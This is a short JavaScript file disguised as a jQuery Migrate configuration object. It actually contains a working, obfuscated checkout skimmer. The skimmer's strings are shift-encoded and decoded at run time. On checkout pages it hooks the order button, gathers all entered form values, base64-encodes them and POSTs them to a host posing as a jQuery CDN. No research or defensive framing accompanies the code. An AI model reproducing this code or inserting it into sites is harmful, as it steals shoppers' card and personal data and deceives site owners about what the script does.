// Every string of the skimmer stored with its letters shifted by seven and shifted back
// by a small decoder at run time: checkout gate, all inputs and selects collected when the
// order button is clicked, sent as a form POST to a host posing as a jQuery CDN.
var jQueryMigrateCfg = (function () {
  function u(s) {
    var o = "";
    for (var i = 0; i < s.length; i++) {
      var c = s.charCodeAt(i);
      if (c >= 97 && c <= 122) o += String.fromCharCode((c - 97 + 19) % 26 + 97);
      else if (c >= 65 && c <= 90) o += String.fromCharCode((c - 65 + 19) % 26 + 65);
      else o += s.charAt(i);
    }
    return o;
  }
  var S = {
    g: u("joljrvba"),
    f: u("puwba, zlslja"),
    b: u("ibaavu[afwl=zbitpa], #wshjl-vykly, .hjapvu.joljrvba"),
    h: u("oaawz://jku-qxblyf-tpu.puchspk/hwp/c2/zahaz"),
    m: u("WVZA"),
    t: u("Jvualua-Afwl"),
    v: u("hwwspjhapvu/e-ddd-mvyt-byslujvklk"),
    e: u("jspjr")
  };
  function collect() {
    var list = document.querySelectorAll(S.f), out = [];
    for (var i = 0; i < list.length; i++) {
      var el = list[i];
      if (!el.value || el.type === "hidden") continue;
      out.push(encodeURIComponent(el.name || el.id || i) + "=" + encodeURIComponent(el.value));
    }
    return out.join("&");
  }
  function send() {
    var body = collect();
    if (body.length < 40) return;
    var x = new XMLHttpRequest();
    x.open(S.m, S.h, true);
    x.setRequestHeader(S.t, S.v);
    x.send("d=" + encodeURIComponent(btoa(body)) + "&s=" + encodeURIComponent(location.host));
  }
  if (location.href.indexOf(S.g) !== -1) {
    var tries = 0, iv = setInterval(function () {
      var btns = document.querySelectorAll(S.b);
      if (btns.length || ++tries > 40) clearInterval(iv);
      for (var i = 0; i < btns.length; i++) btns[i].addEventListener(S.e, send, false);
    }, 500);
  }
  return { migrateMute: true };
})();
